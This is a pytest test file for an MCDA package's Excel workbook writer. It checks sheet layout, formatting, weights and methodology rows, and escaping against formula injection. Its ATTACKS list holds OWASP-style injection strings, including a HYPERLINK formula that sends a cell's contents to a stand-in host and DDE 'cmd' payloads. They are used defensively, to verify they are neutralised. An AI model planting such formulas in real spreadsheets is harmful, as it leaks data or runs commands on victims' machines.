"""Output workbook: formula-safe text, sheets and their content, formatting.

The formula-injection cases are OWASP's "CSV Injection" examples
(https://owasp.org/www-community/attacks/CSV_Injection): a cell beginning
with ``=``, ``+``, ``-``, ``@``, tab or carriage return.
"""

from __future__ import annotations

import itertools
import math
import re
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from openpyxl.formatting.rule import ColorScale, DataBar

from mcda import __version__
from mcda.errors import McdaError
from mcda.problem import Cluster, Criterion, Direction, Judgments, Member, Problem
from mcda.results import RankResult, WeightsResult
from mcda.workbook.sanitize import is_formula_like, put_text, safe_text
from mcda.workbook.writer import build_output, write_output

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Haga clic")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    "\tbajo=1",
    "\r=2",
]


def _problem(texts: list[str] = ATTACKS) -> Problem:
    """A small problem whose every user text is an attack string (cycled)."""
    t = itertools.cycle(texts)
    clusters = tuple(Cluster(f"C{i}", next(t), next(t), next(t)) for i in range(1, 5))
    criteria = (
        Criterion("I1", next(t), next(t), Direction.BENEFIT, next(t), 0.5, description=next(t),
                  source=next(t), year="2023"),
        Criterion("R1", next(t), next(t), Direction.COST, next(t), 0.3, description=next(t), source=next(t)),
        Criterion("G1", "Crecimiento", "Crecimiento", weight=0.2),
    )
    values = [[10.0, 2.0, -1.5], [20.0, 5.0, 3.0], [15.0, 1.0, 0.0], [12.5, 4.0, 2.5]]
    members = (Member("M1", next(t), next(t), 1.0), Member("M2", "Cámara", "privado", 2.0))
    judgments = (Judgments(("I1", "R1", "G1"), [[1, 3, 5], [1 / 3, 1, 2], [1 / 5, 1 / 2, 1]], member="M1"),
                 Judgments(("I1", "R1", "G1"), [[1, 2, math.nan], [math.nan, 1, 1], [math.nan, 1, 1]],
                           member="M2"))
    return Problem(clusters, criteria, values, members=members, judgments=judgments,
                   settings={next(t): next(t), "ahp.ri_table": "saaty"})


def _results(p: Problem) -> list[RankResult]:
    ids = p.cluster_ids
    return [
        RankResult.from_scores("ahp", {"normalization": "minmax"}, ids, [0.61, 0.35, 0.61, 0.20], "higher",
                               convention="additive synthesis"),
        RankResult.from_scores("vikor", {"v": 0.5}, ids, [0.0, 0.8, 0.3, 1.0], "lower",
                               convention="Opricovic & Tzeng 2004"),
        RankResult.from_scores("topsis", {"normalization": "vector"}, ids, [0.7, 0.4, 0.5, 0.1], "higher"),
    ]


def _weights(p: Problem) -> WeightsResult:
    return WeightsResult(pd.Series([0.6, 0.25, 0.15], index=p.criterion_ids), "ahp_committee",
                         consistency={"AHP M1": 0.0036, "AHP M2": 0.12},
                         details={"aggregation": "aij", "ri_table": "saaty", "member_weights": {"M1": 1, "M2": 2}})


@pytest.fixture()
def written(tmp_path: Path) -> Path:
    p = _problem()
    out = tmp_path / "salida.xlsx"
    write_output(out, p, _results(p), weights=_weights(p), methodology={"seed": 7, "note": ATTACKS[0]},
                 input_sha256="ab" * 32,
                 extra_sheets={"Auditoria": pd.DataFrame({"evento": ATTACKS, "n": range(len(ATTACKS))})})
    return out


@pytest.mark.parametrize("text", ATTACKS)
def test_safe_text_guards_every_formula_prefix(text: str) -> None:
    assert safe_text(text) == "'" + text
    assert is_formula_like(text)


@pytest.mark.parametrize("text", ["Minería Sur", "2-3", "a=b", "", "'ya citado"])
def test_safe_text_leaves_ordinary_text(text: str) -> None:
    assert safe_text(text) == text


def test_put_text_stores_the_text_unchanged_as_a_string_cell() -> None:
    ws = openpyxl.Workbook().active
    put_text(ws["A1"], "=HYPERLINK(\"x\")")
    put_text(ws["A2"], "bien\x00\x07")  # control characters XML cannot hold are dropped
    assert (ws["A1"].value, ws["A1"].data_type, ws["A1"].quotePrefix) == ("=HYPERLINK(\"x\")", "s", True)
    assert ws["A2"].value == "bien" and not ws["A2"].quotePrefix


def test_no_cell_of_the_output_is_a_formula(written: Path) -> None:
    wb = openpyxl.load_workbook(written)
    seen_attacks = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str) and is_formula_like(cell.value):
                    seen_attacks += 1
                    assert cell.quotePrefix, f"{ws.title}!{cell.coordinate} lacks the quote prefix"
    assert seen_attacks >= 20  # the attack strings really were written, in many sheets
    with zipfile.ZipFile(written) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", zf.read(name)), name


def test_sheets_in_contract_order_opening_on_prioridades(written: Path) -> None:
    wb = openpyxl.load_workbook(written)
    assert wb.sheetnames == ["Clusters", "Criterios", "Comite", "AHP M1", "AHP M2", "Prioridades", "Pesos",
                             "Metodologia", "Auditoria", "_clusterprio"]
    assert wb.active.title == "Prioridades"
    assert wb["_clusterprio"].sheet_state == "hidden"
    assert [ws.title for ws in wb.worksheets if ws.sheet_view.tabSelected] == ["Prioridades"]


def test_prioridades_orders_by_main_method_with_every_other_method(written: Path) -> None:
    rows = list(openpyxl.load_workbook(written)["Prioridades"].iter_rows(values_only=True))
    assert rows[0] == ("puesto", "id", "nombre", "region", "puntaje AHP", "puntaje VIKOR", "puesto VIKOR",
                       "puntaje TOPSIS", "puesto TOPSIS", "justificacion", "sugerencia de politica",
                       "anotaciones del comite")
    # AHP scores 0.61, 0.35, 0.61, 0.20: C1 and C3 tie and share rank 1 (competition ranking 1, 1, 3, 4)
    assert [(r[0], r[1]) for r in rows[1:]] == [(1, "C1"), (1, "C3"), (3, "C2"), (4, "C4")]
    assert rows[1][4:9] == (0.61, 0.0, 1, 0.7, 1)
    # the written justification (mcda.justification) quotes the place under every method
    assert "puesto 3 de 4" in rows[3][9] and "(VIKOR y TOPSIS)" in rows[3][9]
    assert rows[1][9].startswith("Comparte el puesto 1 de 4 con ")


def test_pesos_reports_weights_groups_method_and_cr(written: Path) -> None:
    ws = openpyxl.load_workbook(written)["Pesos"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][:6] == ("id", "nombre", "grupo", "peso", "peso del grupo", "obtenido con")
    assert [r[0] for r in rows[1:4]] == ["I1", "R1", "G1"]
    assert [r[3] for r in rows[1:4]] == [0.6, 0.25, 0.15]
    assert rows[3][4] == 0.15 and "comité" in rows[1][5]
    flat = {r[0]: r[1:3] for r in rows[5:] if r[0]}
    assert flat["suma de los pesos"][0] == pytest.approx(1.0)
    # Spanish "RC, razón de consistencia" as in the GUI, and the decimal point of every other number
    assert flat["razón de consistencia (RC) de «AHP M1»"] == (0.0036, "aceptable (RC < 0.10)")
    assert flat["razón de consistencia (RC) de «AHP M2»"][1] == "revisar los juicios (RC ≥ 0.10)"
    assert flat["aggregation"][0] == "aij" and flat["aggregation"][1].startswith("Cómo se combinaron los juicios")


def test_metodologia_records_every_parameter(written: Path) -> None:
    rows = {r[0]: r[1] for r in openpyxl.load_workbook(written)["Metodologia"].iter_rows(min_row=2, values_only=True)}
    assert rows["program"] == f"clusterprio {__version__}" and rows["version"] == __version__
    assert rows["input_sha256"] == "ab" * 32
    assert re.match(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d", rows["date"])
    assert (rows["clusters"], rows["criteria"], rows["members"], rows["missing_values"]) == (4, 3, 2, 0)
    assert rows["main_method"] == "ahp" and rows["methods"] == "ahp, vikor, topsis"
    assert rows["vikor.v"] == 0.5 and rows["topsis.normalization"] == "vector"
    assert rows["vikor.better"] == "menor puntaje es mejor"
    assert rows["ahp.convention"] == "additive synthesis"
    assert rows["seed"] == 7 and rows["note"] == ATTACKS[0]
    assert rows["weights.aggregation"] == "aij"
    assert rows["tie_rule"] == ("puestos de competición (1, 2, 2, 4): dos puntajes empatan si difieren en menos de "
                                "10⁻⁹ × máx(1, rango de los puntajes)")


def test_metodologia_descriptions_are_in_the_sheet_language_and_each_its_own(written: Path) -> None:
    """Audit: four weighting details shared "Detalle de la ponderación"; sensitivity rows read
    "Análisis de sensibilidad de la exportación: scheme"; the tie rule was English in a Spanish sheet."""
    from mcda.workbook.result_sheets import describe

    rows = {r[0]: r[2] for r in openpyxl.load_workbook(written)["Metodologia"].iter_rows(min_row=2, values_only=True)}
    weights = [rows[k] for k in rows if k.startswith("weights.")]
    assert weights and len(set(weights)) == len(weights)
    keys = ("scheme", "samples", "seed", "concentration", "top_k", "spread", "mode", "members", "voting")
    texts = [describe(f"sensitivity.{k}", lang) for k in keys for lang in ("es", "en")]
    assert len(set(texts)) == len(texts)
    assert not any(k in describe(f"sensitivity.{k}", "es") for k in keys[:5])  # no bare parameter name
    for k in ("prioritization", "ri_table", "aggregation", "members"):
        assert describe(f"weights.{k}", "es") != describe(f"weights.{k}", "en")
        assert k not in describe(f"weights.{k}", "es")


def test_english_headers_keep_the_contract_sheet_names(tmp_path: Path) -> None:
    p = _problem(["texto"])
    wb = build_output(p, _results(p), lang="en")
    assert {"Prioridades", "Pesos", "Metodologia", "Clusters", "Criterios"} <= set(wb.sheetnames)
    assert [c.value for c in wb["Prioridades"][1]][:5] == ["rank", "id", "name", "region", "AHP score"]
    assert [c.value for c in wb["Metodologia"][1]] == ["parameter", "value", "description"]
    assert wb["Prioridades"]["J3"].value.startswith("It shares place 1 of 4 with ")


def test_formatting_reads_back(written: Path) -> None:
    wb = openpyxl.load_workbook(written)
    pr = wb["Prioridades"]
    assert pr.freeze_panes == "C2" and wb["Clusters"].freeze_panes == "C2" and wb["Pesos"].freeze_panes == "A2"
    assert wb["AHP M1"].freeze_panes == "B2"
    assert all(pr.cell(row=1, column=c).font.b for c in range(1, 11))
    assert pr["E2"].number_format == "0.0000" and pr["G2"].number_format == "0"
    assert wb["Pesos"]["D2"].number_format == "0.0000"
    assert wb["Clusters"]["E2"].number_format == "#,##0.00"  # 10, 20, 15, 12.5: decimals, below 1 000
    widths = {k: v.width for k, v in pr.column_dimensions.items()}
    assert widths["B"] >= 6 and widths["J"] > widths["A"]
    assert pr["J2"].alignment.wrap_text
    rules = {str(rng.sqref): [r for r in rules] for rng, rules in pr.conditional_formatting._cf_rules.items()}
    # higher is better for the main method: a data bar on its score; ranks coloured, green for rank 1
    assert isinstance(rules["E2:E5"][0].dataBar, DataBar)
    assert isinstance(rules["A2:A5"][0].colorScale, ColorScale)
    assert rules["A2:A5"][0].colorScale.color[0].rgb.endswith("C6EFCE")
    pesos = {str(rng.sqref): r for rng, r in wb["Pesos"].conditional_formatting._cf_rules.items()}
    assert isinstance(pesos["D2:D4"][0].dataBar, DataBar)
    assert pr.auto_filter.ref == "A1:L5"


def test_lower_is_better_main_method_reverses_the_colour_scale() -> None:
    p = _problem(["x"])
    results = _results(p)
    wb = build_output(p, [results[1], results[0]])  # VIKOR first
    rules = {str(rng.sqref): r for rng, r in wb["Prioridades"].conditional_formatting._cf_rules.items()}
    assert rules["E2:E5"][0].colorScale.color[0].rgb.endswith("63BE7B")  # green at the minimum
    assert [c.value for c in wb["Prioridades"]["B"]][1:] == ["C1", "C3", "C2", "C4"]


def test_without_weights_result_the_workbook_weights_are_reported() -> None:
    p = _problem(["x"])
    ws = build_output(p, _results(p))["Pesos"]
    assert [ws.cell(row=r, column=4).value for r in (2, 3, 4)] == pytest.approx([0.5, 0.3, 0.2])
    assert ws["F2"].value.startswith("Pesos directos")


def test_extra_sheet_written_as_a_table(written: Path) -> None:
    ws = openpyxl.load_workbook(written)["Auditoria"]
    assert [c.value for c in ws[1]] == ["evento", "n"]
    assert ws["A2"].value == ATTACKS[0] and ws["B8"].value == 6


def test_extra_sheet_may_not_reuse_a_sheet_name(tmp_path: Path) -> None:
    p = _problem(["x"])
    with pytest.raises(McdaError) as info:
        write_output(tmp_path / "o.xlsx", p, _results(p), extra_sheets={"pesos": pd.DataFrame({"a": [1]})})
    assert info.value.code == "write.duplicate_sheet"
    assert not (tmp_path / "o.xlsx").exists()


def test_member_id_that_cannot_name_a_sheet_is_a_coded_error() -> None:
    p = _problem(["x"]).replace(members=(Member("M/1", "x"),),
                                judgments=(Judgments(("I1", "R1"), np.eye(2), member="M/1"),))
    with pytest.raises(McdaError) as info:
        build_output(p, _results(p))
    assert info.value.code == "write.sheet_name" and info.value.issues[0].sheet == "AHP M/1"


def test_judgment_cells_show_reciprocals_as_fractions(written: Path) -> None:
    ws = openpyxl.load_workbook(written)["AHP M1"]
    assert [c.value for c in ws[1]] == [None, "I1", "R1", "G1"]
    assert ws["B3"].value == pytest.approx(1 / 3) and ws["B3"].number_format == "# ?/?"
    assert ws["D2"].number_format == "0"
    m2 = openpyxl.load_workbook(written)["AHP M2"]
    assert m2["D2"].value is None and m2["B3"].value is None  # NaN = missing judgment = empty cell


def test_text_longer_than_a_cell_can_hold_is_a_coded_error() -> None:
    """Excel's specification limit: 32 767 characters per cell (a longer one makes Excel repair the file)."""
    p = _problem(["x"])
    long = p.replace(clusters=(p.clusters[0].__class__("C1", "n", "", "x" * 32_768), *p.clusters[1:]))
    with pytest.raises(McdaError) as info:
        build_output(long, _results(long))
    issue = info.value.issues[0]
    assert (issue.code, issue.location, issue.params["max"]) == ("write.text_too_long", "Clusters!D2", 32_767)


def test_extra_sheet_values_of_every_kind() -> None:
    import datetime as dt

    frame = pd.DataFrame({
        "cuando": [pd.Timestamp("2026-03-01 10:30", tz="America/Lima"), pd.NaT],
        "n": pd.array([1, pd.NA], dtype="Int64"),
        "ok": [True, False],
        "texto": ["=1", None],
    })
    ws = build_output(_problem(["x"]), _results(_problem(["x"])), extra_sheets={"Auditoria": frame})["Auditoria"]
    assert ws["A2"].value == dt.datetime(2026, 3, 1, 10, 30) and ws["A3"].value is None
    assert ws["B2"].value == 1 and ws["B3"].value is None
    assert ws["C2"].value == "true" and ws["D2"].data_type == "s" and ws["D3"].value is None


def test_optional_sheets_only_when_there_is_something_to_write() -> None:
    p = Problem((Cluster("A", "a"), Cluster("B", "b")), (Criterion("c", "x"),), [[1.0], [2.0]])
    wb = build_output(p, [RankResult.from_scores("wsm", {}, ["A", "B"], [0.0, 1.0], "higher")])
    assert wb.sheetnames == ["Clusters", "Criterios", "Prioridades", "Pesos", "Metodologia"]
    assert wb["Pesos"]["F2"].value == "Pesos iguales"
    with pytest.raises(ValueError):
        build_output(p, [])
